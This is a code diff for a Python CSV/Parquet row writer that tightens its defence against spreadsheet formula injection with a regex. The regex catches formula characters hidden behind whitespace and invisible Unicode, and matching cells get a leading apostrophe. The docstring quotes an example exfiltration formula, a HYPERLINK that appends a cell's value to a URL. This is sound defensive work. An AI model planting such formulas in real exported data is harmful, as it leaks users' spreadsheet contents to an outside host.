@@ -1,10 +1,12 @@
 """Rows of one Struct type as CSV or Parquet, written as they come.
 
-CSV is made for spreadsheets, which take a cell that begins with `=`, `+`, `-` or `@` for a formula:
+CSV is safe in spreadsheets, which take a cell that begins with `=`, `+`, `-` or `@` for a formula:
 a comment can be `=HYPERLINK("http://…"&A1)`. Such texts get an apostrophe in front, which
-spreadsheets show as text. Numbers are numbers, also negative ones. Lists are JSON, music is spread
-over columns `music.title` and so on. Excel rounds ids of nineteen digits when it opens a CSV by
-itself; import the column as text, or use Parquet.
+spreadsheets show as text. Every other text comes back as it was from `csv`, pandas, polars and
+DuckDB; a null is an empty cell, as an empty text is. Numbers are numbers, also negative ones. Lists
+are JSON, music is spread over columns `music.title` and so on. Excel needs a byte order mark, and
+rounds ids of nineteen digits when it opens a CSV by itself: import the column as text, or use
+Parquet.
 
 Parquet has the types of `frames.schema`; a row group is written whenever enough rows have come, so
 memory stays flat. Its index is written last: without `close` there is no readable file, so files
@@ -18,6 +20,7 @@ are written under another name first.
 from __future__ import annotations
 
 import csv
+import re
 from collections.abc import Callable, Sequence
 from datetime import datetime
 from typing import Any, Protocol, cast, get_args, get_type_hints
@@ -34,7 +37,13 @@ __all__ = ["LineReader", "RowWriter", "check_format", "open_writer"]
 # hold much.
 ROWS_PER_GROUP = 20_000
 
-_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+# What a spreadsheet takes for the beginning of a formula, also behind characters that some of them
+# skip: white space, control characters and such as nobody sees. A tab or a line break begins one
+# by itself where the next character is taken for the cell's first.
+_FORMULA = re.compile(
+    r"[\t\r\n]|[\s\x00-\x1f\x7f-\xa0\xad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]*"
+    r"[=+\-@＝＋－＠]"
+)
 
 
 class RowWriter(Protocol):
@@ -75,13 +84,12 @@ class LineReader:
         try:
             return self._lines(lines)
         except (msgspec.MsgspecError, UnicodeDecodeError):
-            return [self._shape.decode(line) for line in lines.splitlines()]
+            return [self._shape.decode(line) for line in lines.split(b"\n") if line]
 
 
 def defuse(text: str) -> str:
-    """`text` so that no spreadsheet takes it for a formula; leading spaces are looked through, as
-    some programs do."""
-    return "'" + text if text.lstrip(" ").startswith(_FORMULA) else text
+    """`text` so that no spreadsheet takes it for a formula."""
+    return "'" + text if _FORMULA.match(text) else text
 
 
 class _Csv:
